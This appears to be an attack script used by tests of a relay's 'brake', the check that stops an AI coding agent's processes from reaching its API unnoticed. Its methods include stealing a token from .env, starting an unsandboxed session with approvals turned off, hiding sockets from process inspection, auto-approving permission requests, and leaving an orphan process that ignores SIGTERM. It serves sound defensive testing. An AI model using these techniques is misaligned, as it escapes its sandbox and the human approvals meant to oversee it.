# What a model-run command does to release the brake (tests/all/brake.rs): each way a process
# of a session may try to reach the relay's API unnoticed. Usage:
#   python3 attack.py WAY HOST PORT [SOURCE] [PORT2]
# Prints `RESULT <way> <status> <body>` per attempt and `END <way>` last. The token comes from
# `.env` in the working directory, where sessions often find one.
import ctypes
import json
import os
import signal
import socket
import sys
import time

WAY, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SOURCE = sys.argv[4] if len(sys.argv) > 4 else ""
PORT2 = int(sys.argv[5]) if len(sys.argv) > 5 else 0
FAMILY = socket.AF_INET6 if ":" in HOST else socket.AF_INET


def token():
    try:
        for line in open(".env"):
            if line.startswith("CODEX_RELAY_TOKEN="):
                return line.split("=", 1)[1].strip()
    except OSError:
        pass
    return ""


def host_header(port):
    return f"[{HOST}]:{port}" if FAMILY == socket.AF_INET6 else f"{HOST}:{port}"


def request(method, path, body=None, port=PORT):
    data = json.dumps(body).encode() if body is not None else b""
    head = f"{method} {path} HTTP/1.1\r\nHost: {host_header(port)}\r\nConnection: close\r\n"
    head += f"Content-Length: {len(data)}\r\n"
    if body is not None:
        head += "Content-Type: application/json\r\n"
    t = token()
    if t:
        head += f"Authorization: Bearer {t}\r\n"
    return (head + "\r\n").encode() + data


# What a released brake looks like: an unsandboxed session that asks nobody.
PWN = {"prompt": "pwn", "cwd": os.getcwd(), "sandbox": "danger-full-access",
       "approvalPolicy": "never"}


def connect(port=PORT, source=SOURCE):
    s = socket.socket(FAMILY, socket.SOCK_STREAM)
    if source:
        s.bind((source, 0))
    s.connect((HOST, port))
    return s


def answer(s):
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    parts = head.split(b" ")
    status = parts[1].decode() if len(parts) > 1 else "none"
    return status, body.decode(errors="replace").replace("\n", " ")[:3000]


def report(label, s):
    status, body = answer(s)
    print(f"RESULT {label} {status} {body}", flush=True)


def attempt(label, method, path, body=None, port=PORT, source=SOURCE):
    try:
        s = connect(port, source)
        s.sendall(request(method, path, body, port))
        report(label, s)
    except OSError as e:
        print(f"RESULT {label} error {e}", flush=True)


if WAY in ("plain", "source"):
    attempt(WAY, "POST", "/api/sessions", PWN)
elif WAY == "nodump":
    # Its /proc/<pid>/fd becomes unreadable to every other process of the user.
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(4, 0, 0, 0, 0) != 0:  # PR_SET_DUMPABLE
        print(f"prctl failed: errno {ctypes.get_errno()}", flush=True)
    print(f"dumpable {libc.prctl(3, 0, 0, 0, 0)}", flush=True)  # PR_GET_DUMPABLE
    attempt(WAY, "POST", "/api/sessions", PWN)
elif WAY == "flight":
    # The socket travels over a Unix socket pair the moment it connects, and is closed here:
    # while in flight no process holds it. Back 1.5 s later, it sends the request. Ten times:
    # one success is enough.
    for _ in range(10):
        s = socket.socket(FAMILY, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((HOST, PORT))
        except BlockingIOError:
            pass
        a, b = socket.socketpair()
        socket.send_fds(a, [b"x"], [s.fileno()])
        s.close()
        time.sleep(1.5)
        _, fds, _, _ = socket.recv_fds(b, 1, 1)
        s = socket.socket(fileno=fds[0])
        s.setblocking(True)
        s.sendall(request("POST", "/api/sessions", PWN))
        report(WAY, s)
elif WAY == "chain":
    # The socket hops to a freshly forked process every few hundred microseconds from the
    # moment it connects; the last one sends the request. Five times.
    for _ in range(5):
        s = socket.socket(FAMILY, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((HOST, PORT))
        except BlockingIOError:
            pass
        end = time.time() + 1
        while time.time() < end:
            if os.fork():
                os._exit(0)
        s.setblocking(True)
        s.sendall(request("POST", "/api/sessions", PWN))
        report(WAY, s)
elif WAY == "poll":
    # A background process watching for approvals to answer, until `stop-poll` appears.
    end = time.time() + 240
    while time.time() < end and not os.path.exists("stop-poll"):
        attempt("pending", "GET", "/api/codex/permission/pending")
        if os.path.exists("leaked-id.txt"):
            rid = open("leaked-id.txt").read().strip()
            attempt("respond", "POST", "/api/codex/permission/respond",
                    {"id": rid, "action": "allow"})
        time.sleep(0.3)
elif WAY == "orphan":
    # Left behind by a command that then kills its Codex: once no Codex is among its parents
    # it tries both relays. It ignores SIGTERM, as a process that wants to stay would.
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    print(f"pid {os.getpid()}", flush=True)

    def codex_above():
        pid = os.getppid()
        while pid > 1:
            try:
                if b"app-server" in open(f"/proc/{pid}/cmdline", "rb").read():
                    return True
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                return False
        return False

    end = time.time() + 60
    while codex_above() and time.time() < end:
        time.sleep(0.01)
    print(f"codex gone: parent {os.getppid()}", flush=True)
    attempt("orphan-here", "POST", "/api/sessions", PWN)
    attempt("orphan-other", "POST", "/api/sessions", PWN, port=PORT2)
print(f"END {WAY}", flush=True)
